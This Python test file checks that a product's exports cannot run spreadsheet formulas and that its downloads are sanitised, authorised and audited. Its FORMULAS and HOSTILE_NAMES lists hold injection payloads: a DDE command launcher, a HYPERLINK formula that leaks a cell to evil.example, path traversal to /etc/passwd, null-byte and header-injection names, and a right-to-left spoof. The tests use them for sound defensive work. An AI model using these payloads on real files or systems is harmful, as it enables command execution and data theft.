"""Every file the product hands out, read back: formulas run in no spreadsheet, figures stay figures, texts come back as they were."""

from __future__ import annotations

import ast
import json
import re
import tomllib
from pathlib import Path

import pandas as pd
import pytest

from core.bootstrap import build
from core.config import ROOT, Settings
from core.domain.file_names import LONGEST, file_name
from core.domain.spreadsheet import csv_bytes
from core.errors import NotAllowed
from core.services import matrix_files
from core.services.access import authorize
from core.services.audit import list_audit
from core.services.downloads import KINDS, take
from core.services.explain import explain
from core.services.exports import export_all
from core.services.identity import local_actor
from core.services.imports import raw_import
from core.services.matrix import matrix_rows
from core.services.people import set_person
from core.services.receipt_files import SAMPLE_COLUMNS, receipt_json, samples_csv
from core.services.receipts import receipt
from core.services.recipes import recipe_file
from core.services.runbook import runbook_markdown
from core.ui.components.defused import defused
from tests.fakes.hostile_house import fill
from tests.fakes.payloads import PAYLOADS as SHELL
from tests.fakes.spreadsheet import formulas, opened

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=DDE(1;2;3)",
    " =1+1", "\t=1+1", "\r=1+1", "x;=1+1", "x\t=1+1", 'x";=1+1', "x\n=1+1", "a,=1+1", '",=1+1', "＝1+1", "＠SUM(1)", "\u00a0=1+1",
    "-1|cmd", "=", "+", "-", "@",
]  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    services = build(Settings(db=folder / "t.duckdb", local_dir=folder / "local"))
    mine = services.house.acting(local_actor("Ada"))
    yield mine, fill(mine, FORMULAS)
    services.database.close()
    services.jobs.close()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_runs_in_no_spreadsheet_and_reads_as_it_was(text):
    data = csv_bytes(("text", "number", "after"), [(text, -1.5, text), ("plain", 1e-7, "x")])
    assert formulas(data) == []
    header, row, plain = opened(data)
    assert [cell.kind for cell in row] == ["text", "number", "text"] and float(row[1].text) == -1.5 and float(plain[1].text) == 1e-7
    assert row[0].text.replace("'", "") == text.replace("'", "") and [cell.text for cell in header] == ["text", "number", "after"]


def test_the_whole_export_opens_without_a_formula(hostile, tmp_path):
    house, _ = hostile
    found = export_all(house, tmp_path / "out")
    tables = sorted((tmp_path / "out").rglob("*.csv"))
    assert len(tables) > 10 and len(found["files"]) > 30
    assert {path.name: formulas(path.read_bytes()) for path in tables if formulas(path.read_bytes())} == {}
    for path in (tmp_path / "out/json").iterdir():
        exact = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
        rows = opened((tmp_path / "out/csv" / f"{path.stem}.csv").read_bytes())[1:]
        assert len(rows) == len(exact) == len(pd.read_parquet(tmp_path / "out/parquet" / f"{path.stem}.parquet"))
        for row, kept in zip(rows, exact, strict=True):
            for cell, value in zip(row, kept.values(), strict=True):
                if isinstance(value, int | float) and not isinstance(value, bool):
                    assert cell.kind == "number" and float(cell.text) == value, path.stem
    assert any("=1+1" in path.read_text("utf-8") for path in (tmp_path / "out/json").iterdir()), (
        "JSON holds what was typed, letter by letter"
    )
    for path in (tmp_path / "out/recipes").glob("*.toml"):
        tomllib.loads(path.read_text("utf-8"))


def test_the_matrix_in_each_form_reads_back_as_the_screen_has_it(hostile):
    house, _ = hostile
    lines = matrix_files.lines_of(matrix_rows(house))
    data = matrix_files.csv_of(matrix_rows(house))
    assert formulas(data) == []
    header, *rows = opened(data)
    names = [cell.text for cell in header]
    assert names == list(matrix_files.COLUMNS) and len(rows) == len(lines) > 5
    for row, line in zip(rows, lines, strict=True):
        for cell, name in zip(row, names, strict=True):
            value = line[name]
            if value is None or value == "":
                assert cell.kind == "blank"
            elif isinstance(value, int | float):
                assert cell.kind == "number" and float(cell.text) == pytest.approx(value, rel=1e-12)
    table = matrix_files.markdown_of(matrix_rows(house)).decode().splitlines()
    columns = [len(re.findall(r"(?<!\\)\|", line)) for line in table]
    assert len(table) == len(lines) + 2 and set(columns) == {len(names) + 1}, "no text adds a column or a line"


def test_samples_receipt_recipe_and_runbook_read_back(hostile):
    house, ids = hostile
    view = receipt(house, ids["cell"], with_logs=True)
    data = samples_csv(view)
    assert formulas(data) == []
    rows = [dict(zip(SAMPLE_COLUMNS, row, strict=True)) for row in opened(data)[1:]]
    rates = [row["tok_per_s"] for row in rows]
    assert [float(cell.text) for cell in rates if cell.kind == "number"] == [
        one["tok_per_s"] for one in view["samples"] if one["tok_per_s"]
    ]
    whole = json.loads(receipt_json(view, explain(house, view)))
    assert whole["cell"]["cell_id"] == ids["cell"]
    name, text = recipe_file(house, ids["run"])
    assert tomllib.loads(text)["sweep"]["model"] == house.store.runs.get(ids["run"])["request"]["model"]
    assert re.fullmatch(r"[A-Za-z0-9._-]+\.toml", file_name(name))
    markdown = runbook_markdown(house)
    assert re.findall(r"(?<!\\)[<>]|(?<!\\)\]\(", markdown) == []


HOSTILE_NAMES = [
    *SHELL, *FORMULAS, "../../x.log", "..\\..\\x.log", "/etc/passwd", "C:\\x.txt", "x.log\0.exe", 'a"; name="b.exe', "a\r\nX: y",
    "con", "NUL.txt", "aux.tar.gz", ".htaccess", "...", "a" * 300 + ".log", "\u202egol.exe", "<b>.html", "", " ", "x.", "x .log ",
]  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
def test_a_files_name_is_clean_whatever_it_was_called(name):
    clean = file_name(name)
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", clean) and len(clean) <= LONGEST and ".." not in clean
    assert clean.partition(".")[0].lower() not in ("con", "nul", "aux", "prn", "com1", "lpt9") and clean[-1] not in ".-"
    assert file_name(clean) == clean


def test_ordinary_names_stay():
    for name in (
        "matrix.csv",
        "server-1.log",
        "recipe-made-dense-n2-c4-1a2b3c4d.toml",
        "decision-3.pdf",
        "field-worksheet-w-0123abcd.html",
    ):
        assert file_name(name) == name


def test_whoever_takes_a_file_is_written_down_and_must_be_allowed(hostile):
    house, ids = hostile
    before = len(list_audit(house, limit=10_000))
    for kind in KINDS:
        assert take(house, kind, ids["cell"], lambda: "ü") == "ü"
    lines = list_audit(house, limit=10_000)[: len(KINDS)]
    assert len(list_audit(house, limit=10_000)) == before + len(KINDS)
    assert {line["detail"]["kind"] for line in lines} == set(KINDS)
    assert {(line["action"], line["outcome"], line["detail"]["bytes"]) for line in lines} == {("export", "done", 2)}
    made = []
    nobody = house.acting(local_actor("Eve"))
    nobody = house.acting(type(nobody.actor)("x", "Eve", "none", "page"))
    with pytest.raises(NotAllowed):
        take(nobody, "memo", "entry 1", lambda: made.append(1) or "x")
    assert made == [] and list_audit(house)[0]["outcome"] == "denied"


def test_a_person_disabled_after_the_page_was_drawn_takes_nothing(house):
    key = "https://id.example 7"
    set_person(house, {"key": key, "name": "Eve", "role": "viewer"})
    eve = house.acting(type(house.actor)(key, "Eve", "viewer", "page", is_named=True))
    assert take(eve, "runbook", "", lambda: "x") == "x"
    set_person(house, {"key": key, "name": "Eve", "role": "viewer", "is_disabled": True})
    with pytest.raises(NotAllowed):
        take(eve, "runbook", "", lambda: "x")
    authorize(house, "see")


def test_a_raw_imported_file_comes_back_byte_by_byte(hostile):
    house, _ = hostile
    row = house.store.imports.files()[0]
    name, data = raw_import(house, row["sha256"])
    assert len(data) == row["bytes"] and re.fullmatch(r"[A-Za-z0-9._-]+", file_name(name))


def _calls(name: str) -> list[tuple[Path, ast.Call]]:
    found = []
    for path in [*(ROOT / "pages").rglob("*.py"), *(ROOT / "core" / "ui").rglob("*.py")]:
        tree = ast.parse(path.read_text("utf-8"))
        calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)]
        found += [(path, call) for call in calls if call.func.attr == name]
    return found


def test_there_is_one_download_button_and_every_table_is_defused():
    assert [path.name for path, _ in _calls("download_button")] == ["download.py"]
    tables = _calls("dataframe")
    assert len(tables) >= 9
    for path, call in tables:
        assert "defused(" in ast.unparse(call.args[0]), path
    kinds = {match for path in [*(ROOT / "pages").rglob("*.py"), *(ROOT / "core/ui").rglob("*.py")]
             for match in re.findall(r'what=\("([a-z ]+)"', path.read_text("utf-8"))}  # fmt: skip
    assert kinds | {"memo", "decision record"} == set(KINDS)


def test_a_table_keeps_its_figures_and_blanks():
    frame = defused(pd.DataFrame([{"a": "=1", "b": "-3.1 %", "c": -2, "d": None, "e": "+1.2×"}]))
    assert frame.iloc[0].to_list()[:3] == ["'=1", "-3.1 %", -2] and frame.iloc[0]["e"] == "+1.2×"
    assert defused(pd.DataFrame()).empty
